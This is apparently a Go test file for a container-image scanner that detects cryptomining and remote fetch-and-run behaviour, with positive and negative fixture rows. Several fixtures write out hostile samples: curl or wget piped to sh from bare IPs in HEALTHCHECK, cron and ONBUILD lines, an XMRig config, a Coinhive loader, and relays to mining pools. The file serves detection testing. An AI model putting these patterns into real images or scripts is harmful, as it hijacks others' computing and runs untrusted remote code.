package hierarchical_test

import (
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	dt "github.com/strata-sec/strata/detectors/detectortest"
	"github.com/strata-sec/strata/detectors/hierarchical"
)

// erXMRigJSON is an XMRig-style configuration (xmrig/xmrig src/config.json
// shape) with a documentation-range pool.
const erXMRigJSON = `{
    "autosave": true,
    "donate-level": 1,
    "randomx": {"init": -1, "mode": "auto"},
    "cpu": {"enabled": true, "huge-pages": true},
    "pools": [{"url": "203.0.113.10:3333", "user": "` + wallet + `", "pass": "x", "keepalive": true, "tls": false}]
}
`

// erPoolDashboard is the configuration of a pool-statistics dashboard: pool
// endpoints and API URLs, no miner keys.
const erPoolDashboard = `{
    "pools": [
        {"name": "pool A", "url": "https://pool-a.example/api/stats", "user": "public", "stratum": "pool-a.example:3333"},
        {"name": "pool B", "url": "https://pool-b.example/api/stats", "user": "public"}
    ],
    "refresh": 60
}
`

// everyRuleRows040 are the rows of the rules 0.4.0 added.
func everyRuleRows040() []everyRuleRow {
	const R, Q = true, false
	cron := func(t *testing.T, line string, files ...dt.File) v1.Image {
		return erRun(t, "true", append(files, dt.Text("etc/cron.d/job", "SHELL=/bin/sh\n"+line+"\n"))...)
	}
	return []everyRuleRow{
		{hierarchical.RuleMinerCmdline, R, "renamed program with -o host:port -u wallet -k --tls", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Entrypoint: []string{"/usr/local/bin/kswapd0", "-o", "203.0.113.10:443", "-u", wallet, "-k", "--tls"}},
				"COPY kswapd0 /usr/local/bin/ # buildkit", dt.Exec("usr/local/bin/kswapd0", machineFile(t, "/bin/true")))
		}, nil, ""},
		{hierarchical.RuleMinerCmdline, R, "pool only in ENV, given on the command line", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Env: []string{"POOL=198.51.100.4:5555", "WALLET=" + wallet}, Cmd: []string{"sh", "-c", "/opt/bin/app -o $POOL -u $WALLET -p x"}},
				"COPY app /opt/bin/ # buildkit", dt.Exec("opt/bin/app", machineFile(t, "/bin/true")))
		}, nil, ""},
		{hierarchical.RuleMinerCmdline, Q, "curl -u user:pass -o file and ssh -o options", func(t *testing.T) v1.Image {
			return erRun(t, "true", dt.Exec("usr/local/bin/sync.sh", "#!/bin/sh\ncurl -fsS -u backup:secret -o /tmp/db.gz https://backup.example/db.gz\nssh -o StrictHostKeyChecking=no -p 2222 backup@backup.example true\nmysql -u root -h db.example -P 3306 app < /tmp/q.sql\n"))
		}, nil, ""},

		{hierarchical.RuleNodeMining, R, "monerod --start-mining", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Entrypoint: []string{"monerod", "--non-interactive", "--start-mining", wallet, "--mining-threads", "4"}}, "RUN true # buildkit")
		}, nil, ""},
		{hierarchical.RuleNodeMining, R, "geth --mine --miner.etherbase", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Cmd: []string{"geth", "--mine", "--miner.etherbase", "0x0000000000000000000000000000000000000001"}}, "RUN true # buildkit")
		}, nil, ""},
		{hierarchical.RuleNodeMining, Q, "monerod and geth run as nodes", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Entrypoint: []string{"monerod", "--non-interactive", "--restricted-rpc", "--rpc-bind-ip=0.0.0.0", "--confirm-external-bind"}},
				"RUN true # buildkit", dt.Exec("usr/local/bin/geth-start.sh", "#!/bin/sh\nexec geth --http --http.addr 0.0.0.0 --syncmode snap\n"))
		}, nil, ""},

		{hierarchical.RuleMinerConfigJSON, R, "XMRig config.json", func(t *testing.T) v1.Image {
			return erRun(t, "true", dt.Text("opt/app/config.json", erXMRigJSON))
		}, nil, ""},
		{hierarchical.RuleMinerConfigJSON, Q, "pool-statistics dashboard configuration", func(t *testing.T) v1.Image {
			return erRun(t, "true", dt.Text("srv/dashboard/config.json", erPoolDashboard))
		}, nil, ""},

		{hierarchical.RuleMinerDependency, R, "Node.js app depending on coin-hive", func(t *testing.T) v1.Image {
			return erRun(t, "true", dt.Text("app/package.json", `{"name": "svc", "version": "1.0.0", "dependencies": {"express": "^4.18.2", "coin-hive": "^1.8.0"}}`))
		}, nil, ""},
		{hierarchical.RuleMinerDependency, R, "Python app requiring a documented cryptojacking package", func(t *testing.T) v1.Image {
			return erRun(t, "true", dt.Text("app/requirements.txt", "flask==3.0.0\nmaratlib==0.6\n"))
		}, nil, ""},
		{hierarchical.RuleMinerDependency, Q, "wallet and web app manifests", func(t *testing.T) v1.Image {
			return erRun(t, "true",
				dt.Text("app/package.json", `{"name": "wallet-ui", "dependencies": {"bitcoinjs-lib": "^6.1.0", "monero-ts": "^0.9.0", "express": "^4.18.2"}}`),
				dt.Text("app/requirements.txt", "electrum-ecc==0.0.2\nrequests==2.31.0\npycryptodome==3.19.0\n"),
				dt.Text("app/go.mod", "module example.com/explorer\n\ngo 1.22\n\nrequire github.com/btcsuite/btcd v0.24.0\n"))
		}, nil, ""},

		{hierarchical.RuleBrowserMiner, R, "Coinhive loader in a served page", func(t *testing.T) v1.Image {
			return erRun(t, "true", dt.Text("var/www/html/index.html", "<html><script src=\"/js/lib.js\"></script><script>var miner = new CoinHive.Anonymous('SITEKEY0123456789', {throttle: 0.3}); miner.start();</script></html>\n"))
		}, nil, ""},
		{hierarchical.RuleBrowserMiner, Q, "NoCoin-style blocklist and a page about cryptojacking", func(t *testing.T) v1.Image {
			return erRun(t, "true",
				dt.Text("etc/adblock/nocoin.txt", "||coin-hive.com^\n||coinhive.com/lib/coinhive.min.js\n"),
				dt.Text("var/www/html/blog.html", "<p>Cryptojacking scripts such as Coinhive ran in visitors' browsers.</p>\n"))
		}, nil, ""},

		{hierarchical.RuleWASMMiner, R, "cryptonight WebAssembly module", func(t *testing.T) v1.Image {
			return erRun(t, "true", dt.Text("usr/share/nginx/html/worker.wasm", "\x00asm\x01\x00\x00\x00\x07\x13\x01\x0fcryptonight_hash\x00\x00"))
		}, nil, ""},
		{hierarchical.RuleWASMMiner, Q, "ordinary WebAssembly module", func(t *testing.T) v1.Image {
			return erRun(t, "true", dt.Text("usr/share/nginx/html/app.wasm", "\x00asm\x01\x00\x00\x00\x07\x0b\x01\x07decode_png\x00\x00"))
		}, nil, ""},

		{hierarchical.RuleRuntimeFetchExec, R, "HEALTHCHECK fetches and runs a script", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Healthcheck: &v1.HealthConfig{Test: []string{"CMD-SHELL", "curl -fsSL http://203.0.113.5/h.sh | sh"}}}, "RUN true # buildkit")
		}, nil, ""},
		{hierarchical.RuleRuntimeFetchExec, R, "cron entry wget, chmod, run", func(t *testing.T) v1.Image {
			return cron(t, "*/5 * * * * root wget -q http://198.51.100.7/u -O /tmp/u && chmod +x /tmp/u && /tmp/u")
		}, nil, ""},
		{hierarchical.RuleRuntimeFetchExec, Q, "installer piped to sh at build time only", func(t *testing.T) v1.Image {
			return erRun(t, "curl -sSf https://sh.rustup.example/install.sh | sh -s -- -y", dt.Text("root/.cargo/env", "export PATH=$HOME/.cargo/bin:$PATH\n"))
		}, nil, ""},

		{hierarchical.RuleRecurringFetch, R, "HEALTHCHECK fetches and runs a script", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Healthcheck: &v1.HealthConfig{Test: []string{"CMD-SHELL", "wget -q -O - http://203.0.113.5/h.sh | sh"}}}, "RUN true # buildkit")
		}, nil, ""},
		{hierarchical.RuleRecurringFetch, R, "cron table fetches from a bare IP every minute", func(t *testing.T) v1.Image {
			return cron(t, "* * * * * root curl -fsSL http://198.51.100.7/cr.sh | bash > /dev/null 2>&1")
		}, nil, ""},
		{hierarchical.RuleRecurringFetch, R, "ONBUILD trigger fetches and runs an installer", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{OnBuild: []string{"RUN curl -fsSL http://192.0.2.61/i.sh | sh"}}, "RUN true # buildkit")
		}, nil, ""},
		{hierarchical.RuleRecurringFetch, Q, "self-updating agent: cron fetches its vendor's update script by host name; HEALTHCHECK only probes", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Healthcheck: &v1.HealthConfig{Test: []string{"CMD-SHELL", "curl -fsS http://127.0.0.1:8080/health || exit 1"}}}, "RUN true # buildkit",
				dt.Text("etc/cron.d/agent-update", "17 3 * * * root curl -fsSL https://updates.example.com/agent/update.sh | sh\n"))
		}, nil, ""},

		{hierarchical.RuleRawIPDownload, Q, "HEALTHCHECK probes the node's own RPC by address", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Healthcheck: &v1.HealthConfig{Test: []string{"CMD-SHELL", "curl -fsS -m 8 http://127.0.0.1:18081/get_info || exit 1"}}}, "RUN true # buildkit")
		}, nil, ""},
		{hierarchical.RuleServedWebMiner, R, "nginx serves a page with a Coinhive loader", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Cmd: []string{"nginx", "-g", "daemon off;"}}, "RUN true # buildkit",
				dt.Text("usr/share/nginx/html/index.html", "<html><script>var m = new CoinHive.Anonymous('SITEKEY0123456789'); m.start();</script></html>\n"))
		}, nil, ""},
		{hierarchical.RuleServedWebMiner, Q, "a loader in a file nobody serves; a web server serving an ordinary page", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Cmd: []string{"nginx", "-g", "daemon off;"}}, "RUN true # buildkit",
				dt.Text("usr/share/nginx/html/index.html", "<html><p>Cryptojacking scripts such as Coinhive ran in visitors' browsers.</p></html>\n"),
				dt.Text("opt/research/samples/ch.js", "var m = new CoinHive.Anonymous('SITEKEY0123456789'); m.start();\n"))
		}, nil, ""},

		{hierarchical.RulePoolRelay, R, "socat relays a local port to a pool", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Entrypoint: []string{"socat", "TCP-LISTEN:3333,fork,reuseaddr", "TCP:pool.supportxmr.com:3333"}}, "RUN true # buildkit")
		}, nil, ""},
		{hierarchical.RulePoolRelay, R, "nginx stream block proxies to a pool", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Cmd: []string{"nginx", "-g", "daemon off;"}}, "RUN true # buildkit",
				dt.Text("etc/nginx/conf.d/stream.conf", "stream {\n  server {\n    listen 3333;\n    proxy_pass gulf.moneroocean.stream:10128;\n  }\n}\n"))
		}, nil, ""},
		{hierarchical.RulePoolRelay, R, "haproxy (official image layout) relays TCP to pools", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Cmd: []string{"haproxy", "-f", "/usr/local/etc/haproxy/haproxy.cfg"}}, "RUN true # buildkit",
				dt.Text("usr/local/etc/haproxy/haproxy.cfg", "frontend f\n  mode tcp\n  bind :3333\n  default_backend pools\nbackend pools\n  mode tcp\n  server p1 mine.c3pool.com:13333\n"))
		}, nil, ""},
		{hierarchical.RuleNodeMiningConfig, R, "zcashd with mining in zcash.conf", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Entrypoint: []string{"zcashd", "-printtoconsole"}}, "RUN true # buildkit",
				dt.Text("root/.zcash/zcash.conf", "gen=1\ngenproclimit=-1\nmineraddress=t1Rx4Zf9G6T2mQq1vQ6rQmX7yDk3VbN8pJq\n"))
		}, nil, ""},
		{hierarchical.RuleNodeMiningConfig, Q, "bitcoind on regtest; an example config in the docs", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Entrypoint: []string{"bitcoind", "-regtest"}}, "RUN true # buildkit",
				dt.Text("root/.bitcoin/bitcoin.conf", "regtest=1\nserver=1\nrpcallowip=127.0.0.1\n"),
				dt.Text("usr/share/doc/bitcoin/examples/bitcoin.conf", "# gen=1 mined with the CPU before 0.13\n#gen=0\n"))
		}, nil, ""},
		{hierarchical.RulePoolRelay, Q, "reverse proxy to application upstreams; a pool dashboard page", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Cmd: []string{"nginx", "-g", "daemon off;"}}, "RUN true # buildkit",
				dt.Text("etc/nginx/conf.d/app.conf", "upstream app { server 10.0.0.5:8080; }\nserver { listen 80; location / { proxy_pass http://app; } }\n"),
				dt.Text("usr/share/nginx/html/pools.html", "<td>pool.supportxmr.com:3333</td>\n"))
		}, nil, ""},

		{hierarchical.RuleStartGraphMining, R, "cron starts a script that unpacks a miner archive", func(t *testing.T) v1.Image {
			tgz := hierarchical.ArchiveGzip(t, hierarchical.ArchiveTar(t, hierarchical.ArchiveMember{Name: "k/agent", Body: []byte(erMinerELF(t)), Mode: 0o755}))
			return dt.Image(t, v1.Config{},
				dt.Step{CreatedBy: "COPY data.tgz /var/lib/.cache/ # buildkit", Files: []dt.File{dt.Text("var/lib/.cache/data.tgz", string(tgz))}},
				dt.Step{CreatedBy: "COPY . / # buildkit", Files: []dt.File{
					dt.Exec("usr/local/bin/upd", "#!/bin/sh\ncd /var/lib/.cache && tar -xzf data.tgz && ./k/agent\n"),
					dt.Text("etc/cron.d/upd", "*/10 * * * * root /usr/local/bin/upd\n")}})
		}, nil, ""},
		{hierarchical.RuleStartGraphMining, Q, "IDS image whose rule files list pools", func(t *testing.T) v1.Image {
			return erCfg(t, v1.Config{Entrypoint: []string{"suricata", "-c", "/etc/suricata/suricata.yaml"}}, "RUN true # buildkit",
				dt.Text("etc/suricata/rules/miners.rules", `alert tls any any -> any any (msg:"miner pool"; tls.sni; content:"pool.supportxmr.com"; sid:1;)`+"\n"+
					`alert tcp any any -> any any (msg:"stratum"; content:"stratum+tcp://"; content:"mining.subscribe"; sid:2;)`+"\n"),
				dt.Text("etc/suricata/suricata.yaml", "default-rule-path: /etc/suricata/rules\nrule-files:\n  - miners.rules\n"))
		}, nil, ""},

		{hierarchical.RuleStartGraphLayers, R, "systemd unit of one layer starts a miner config of another", func(t *testing.T) v1.Image {
			return dt.Image(t, v1.Config{Cmd: []string{"/sbin/init"}},
				dt.Step{CreatedBy: "COPY cfg /opt/svc/ # buildkit", Files: []dt.File{dt.Text("opt/svc/settings.json", erXMRigJSON)}},
				dt.Step{CreatedBy: "COPY unit / # buildkit", Files: []dt.File{
					dt.Text("etc/systemd/system/svc.service", "[Service]\nExecStart=/usr/bin/svc -c /opt/svc/settings.json\n"),
					dt.Exec("usr/bin/svc", machineFile(t, "/bin/true"))}})
		}, nil, ""},
		{hierarchical.RuleStartGraphLayers, Q, "systemd unit starting a web server", func(t *testing.T) v1.Image {
			return dt.Image(t, v1.Config{Cmd: []string{"/sbin/init"}},
				dt.Step{CreatedBy: "COPY cfg /etc/web/ # buildkit", Files: []dt.File{dt.Text("etc/web/web.json", `{"listen": ":8080", "root": "/srv/www"}`)}},
				dt.Step{CreatedBy: "COPY unit / # buildkit", Files: []dt.File{
					dt.Text("etc/systemd/system/web.service", "[Service]\nExecStart=/usr/bin/web -c /etc/web/web.json\n"),
					dt.Exec("usr/bin/web", machineFile(t, "/bin/true"))}})
		}, nil, ""},
	}
}
